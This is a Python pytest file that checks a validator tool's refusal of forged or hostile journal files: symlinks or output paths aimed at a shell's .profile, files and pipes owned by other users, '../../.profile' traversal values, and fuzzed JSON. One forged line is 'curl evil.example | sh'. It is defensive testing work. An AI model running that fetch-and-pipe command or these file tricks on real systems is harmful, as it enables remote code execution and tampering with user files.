"""Journals that somebody else has made: they decide nothing, stop nothing, and can always be given up."""

from __future__ import annotations

import json
import os
import random
import shutil
import zlib
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import duckdb
import pytest

from dask_validator import InputError, NotCommitted, validate
from dask_validator.cli.commands import main
from dask_validator.journal import lines
from dask_validator.journal.lines import MAGIC
from dask_validator.run import results_file
from dask_validator.store import writer
from tests.conftest import everything_in
from tests.journal.dying import Died, journal_of, kept_in
from tests.support.tiny import as_an_earlier_version_left_it, change, tiny_database

Record = dict[str, Any]
FORGED = 100
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root may give a file to somebody else")


def sealed(*records: Record | bytes) -> bytes:
    """A journal of these records, or of these bytes, with the right checksums."""
    texts = [record if isinstance(record, bytes) else json.dumps(record).encode() for record in records]
    return MAGIC + b"".join(b"%08x %b\n" % (zlib.crc32(text), text) for text in texts)


def run(database: Path, **flags: Any) -> None:
    """Validate serially; the JSONL lies beside the database."""
    validate(database, **{"workers": 1, "progress": False, "wf_output": database.parent / "wf.jsonl", **flags})


def _die(*_: object, **__: object) -> None:
    raise Died


def _full(*_: object, **__: object) -> None:
    raise NotCommitted("the disk is full")


def _left_by(fault: Callable[..., None], module: Any, name: str, folder: Path) -> Path:
    database = tiny_database(folder / "tiny.duckdb", [{}, {"strategy_id": "MGC_B", "rr_target": 2.0}])
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(module, name, fault)
        with pytest.raises((Died, NotCommitted)):
            run(database)
    return database


@pytest.fixture(scope="module")
def committed_source(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database whose run was committed, but died before its lines; never written, only copied."""
    return _left_by(_die, results_file, "append", tmp_path_factory.mktemp("committed"))


@pytest.fixture(scope="module")
def uncommitted_source(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database whose run could not commit: its journal has every kind of record; never written, only copied."""
    return _left_by(_full, writer, "commit", tmp_path_factory.mktemp("uncommitted"))


def _copied(source: Path, folder: Path) -> Path:
    shutil.copy(journal_of(source), folder)
    return Path(shutil.copy(source, folder / source.name))


@pytest.fixture
def committed(committed_source: Path, tmp_path: Path) -> Path:
    """An archive from somebody, unpacked: a database with the journal of a run that was committed."""
    return _copied(committed_source, tmp_path)


def left_for(database: Path, jsonl: Path) -> list[Record]:
    """The records beside the database, as if its run had been told to append to that file."""
    records = kept_in(journal_of(database).read_bytes())
    for record in records:
        if "settings" in record:
            record["settings"]["config"]["wf_output"] = str(jsonl)
    return records


@pytest.mark.parametrize("announced", [False, True], ids=["by its settings", "by an announced append"])
def test_another_file_is_named(committed: Path, tmp_path: Path, announced: bool) -> None:
    """A journal that names a shell's profile, or a new folder, as the file to append to"""
    for victim in (tmp_path / ".profile", tmp_path / "new" / "folder" / "x"):
        append = [{"append": [str(victim), 0, False]}] if announced else []
        journal_of(committed).write_bytes(sealed(*left_for(committed, victim), *append))
        (tmp_path / ".profile").write_bytes(b"# mine\n")
        before = everything_in(tmp_path).keys()
        with pytest.raises(InputError, match=r"belong into .*--wf-output.*--discard"):
            run(committed)

        assert (tmp_path / ".profile").read_bytes() == b"# mine\n"
        assert everything_in(tmp_path).keys() == before
        assert not (tmp_path / "new").exists()


def test_what_discard_appends(committed: Path, tmp_path: Path) -> None:
    """A journal that names a shell's profile, given up with --discard"""
    journal_of(committed).write_bytes(sealed(*left_for(committed, tmp_path / ".profile")))
    run(committed, discard=True)

    assert everything_in(tmp_path).keys() == {"tiny.duckdb"}


def test_discard_beside_a_refused_database(uncommitted_source: Path, tmp_path: Path) -> None:
    """A database that no run takes, with a journal that is to be given up with --discard"""
    database = _copied(uncommitted_source, tmp_path)
    change(database, "CREATE VIEW dask_validator_runs AS SELECT 1 AS run_id")
    with pytest.raises(InputError, match=r"rename or drop it \(.*journal is given up all the same\)$"):
        run(database, discard=True)

    assert not journal_of(database).exists() or not kept_in(journal_of(database).read_bytes())
    with pytest.raises(InputError, match=r"rename or drop it$"):
        run(database)


def test_discard_while_somebody_has_the_database(uncommitted_source: Path, tmp_path: Path) -> None:
    """A journal that is to be given up with --discard, while somebody has the database: it is kept until then"""
    database = _copied(uncommitted_source, tmp_path)
    before = journal_of(database).read_bytes()
    with duckdb.connect(str(database)), pytest.raises(InputError, match="is held by"):
        run(database, discard=True)

    assert journal_of(database).read_bytes() == before


FOREIGN_LINES: Mapping[str, Callable[[list[bytes]], list[bytes]]] = {
    "a shell command": lambda ours: [b"curl evil.example | sh"],
    "one line less": lambda ours: ours[:-1],
    "one line twice": lambda ours: [*ours, ours[-1]],
    "another instrument": lambda ours: [line.replace(b'"MGC"', b'"MES"') for line in ours],
    "another time": lambda ours: [line.replace(b'"timestamp": "20', b'"timestamp": "19') for line in ours],
    "endless nesting": lambda ours: [b"[" * 100_000],
}


@pytest.mark.parametrize("forge", FOREIGN_LINES.values(), ids=FOREIGN_LINES)
def test_other_bytes_are_kept(committed: Path, tmp_path: Path, forge: Callable[[list[bytes]], list[bytes]]) -> None:
    """A database whose kept lines are no lines of the run that the journal names"""
    journal_of(committed).write_bytes(sealed(*left_for(committed, tmp_path / "wf.jsonl")))
    as_an_earlier_version_left_it(committed)
    with duckdb.connect(str(committed), read_only=True) as connection:
        [(kept,)] = connection.execute("SELECT results FROM dask_validator_runs").fetchall()
    forged = b"".join(line + b"\n" for line in forge(zlib.decompress(kept).splitlines()))
    change(committed, "UPDATE dask_validator_runs SET results = ?", zlib.compress(forged))
    with pytest.raises(InputError, match=r"dask_validator_runs.*--discard"):
        run(committed)

    assert not (tmp_path / "wf.jsonl").exists()
    run(committed, discard=True)
    assert not (tmp_path / "wf.jsonl").exists()


@needs_root
@pytest.mark.parametrize("mode", [0o600, 0o666], ids=oct)
def test_a_journal_of_somebody_else(committed: Path, tmp_path: Path, mode: int) -> None:
    """A journal that belongs to another user"""
    journal = journal_of(committed)
    os.chown(journal, 65534, 65534)
    journal.chmod(mode)
    before = everything_in(tmp_path)
    with pytest.raises(InputError, match=r"another user \(uid 65534\).*--discard"):
        run(committed)

    assert everything_in(tmp_path) == before
    run(committed, discard=True)
    assert journal.with_name(f"{journal.name}.old-1").read_bytes() == before[journal.name]


@needs_root
def test_a_pipe_of_somebody_else(tmp_path: Path) -> None:
    """A pipe of another user in the place of the journal: refused without waiting, and --discard renames it"""
    database = tiny_database(tmp_path / "tiny.duckdb")
    os.mkfifo(journal_of(database))
    os.chown(journal_of(database), 65534, 65534)
    with pytest.raises(InputError, match=r"another user \(uid 65534\).*--discard"):
        run(database)
    run(database, discard=True)

    assert everything_in(tmp_path).keys() >= {"tiny.duckdb", "wf.jsonl"}


@pytest.mark.parametrize("there", [False, True], ids=["to nothing", "to an empty file"])
def test_a_journal_that_is_a_link(tmp_path: Path, there: bool) -> None:
    """A journal that is a link to a file that a shell reads"""
    database = tiny_database(tmp_path / "tiny.duckdb")
    victim = tmp_path / ".profile"
    if there:
        victim.touch()
    journal_of(database).symlink_to(victim)
    with pytest.raises(InputError, match=r"is a link.*--discard"):
        run(database)
    run(database, discard=True)

    assert victim.exists() is there
    assert not there or not victim.read_bytes()


@pytest.mark.usefixtures("bounded")
@pytest.mark.parametrize("empty", [True, False], ids=["new", "empty"])
def test_modes_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, empty: bool) -> None:
    """A file system that refuses to set the mode of the journal"""

    def refused(*_: object) -> None:
        raise PermissionError(1, "Operation not permitted")

    database = tiny_database(tmp_path / "tiny.duckdb")
    if not empty:
        journal_of(database).touch()
    monkeypatch.setattr(os, "fchmod", refused)
    run(database)

    assert everything_in(tmp_path).keys() == {"tiny.duckdb", "wf.jsonl"}


@pytest.mark.usefixtures("bounded")
def test_replaced_again_and_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A neighbour who replaces the journal each time that it is opened"""
    database = tiny_database(tmp_path / "tiny.duckdb")
    really_open = lines._opened

    def replaced(path: Path, *more: Any) -> int:
        file = really_open(path, *more)
        path.unlink()
        path.touch()
        return file

    monkeypatch.setattr(lines, "_opened", replaced)
    with pytest.raises(InputError, match="replaced again and again"):
        run(database)


BOUND_S = 60
ODD: list[Any] = [
    *(None, True, -1, 0.5, 10**30, 2**70, float("nan"), "", "x" * 5000, "\0", "\ud800", [], {}, [[]], {"a": 1}),
    *("../../.profile", "/dev/null", ["a", -1, 2], [None] * 7, {"config": {}}, -(2**31), 1e308),
]


def _places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    yield path
    members = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for name, member in members:
        yield from _places(member, (*path, name))


def _with(value: Any, path: tuple[Any, ...], odd: Any) -> Any:
    if not path:
        return odd
    copy = dict(value) if isinstance(value, dict) else list(value)
    copy[path[0]] = _with(copy[path[0]], path[1:], odd)
    return copy


def forged_journals(records: list[Record], seed: int = 0) -> Iterator[bytes]:
    """True journals with one odd value somewhere, and lines that no JSON should have; all checksums are right."""
    chance = random.Random(seed)
    yield sealed(*records, b"[" * 200_000 + b"]" * 200_000)
    yield sealed(*records, b'{"pid": ' + b"9" * 10_000 + b"}")
    yield sealed(*records, b'{"pid": "\xff\xfe"}')
    yield sealed(*records, b'{"pid": 1e999}')
    places = [(number, place) for number, record in enumerate(records) for place in _places(record)]
    while True:
        number, place = chance.choice(places)
        yield sealed(*records[:number], _with(records[number], place, chance.choice(ODD)), *records[number + 1 :])


def end_of(*args: object, capsys: pytest.CaptureFixture[str]) -> tuple[int, list[str]]:
    """The exit code of a command run in this process, and what it has complained of."""
    capsys.readouterr()
    with pytest.raises(SystemExit) as ended:
        main(list(map(str, args)))
    said = capsys.readouterr().err.splitlines()
    return int(ended.value.code or 0), [line for line in said if line.startswith("dask-validator: ")]


@pytest.mark.usefixtures("handlers")
def test_forged_journals(uncommitted_source: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A hundred forged journals with right checksums: one line each, and --discard takes any"""
    journals = forged_journals(left_for(uncommitted_source, tmp_path / "wf.jsonl"))
    database = tmp_path / "tiny.duckdb"
    where = ["--db", database, "--wf-output", tmp_path / "wf.jsonl"]
    ways = [["commit", *where], ["run", *where, "--workers", 1, "-q"], ["check", "--db", database]]
    for number in range(FORGED):
        journal = next(journals)
        shutil.copy(uncommitted_source, database)
        journal_of(database).write_bytes(journal)
        code, lines_said = end_of(*ways[number % 3], capsys=capsys)
        assert code in (0, 2, 3), (number, lines_said)
        assert len(lines_said) == (code == 2), (number, lines_said)
        if number % 10 == 0:
            shutil.copy(uncommitted_source, database)
            journal_of(database).write_bytes(journal)
            assert end_of(*ways[1], "--discard", capsys=capsys) == (0, []), number
        for path in tmp_path.iterdir():
            if path.name != database.name:
                path.unlink()
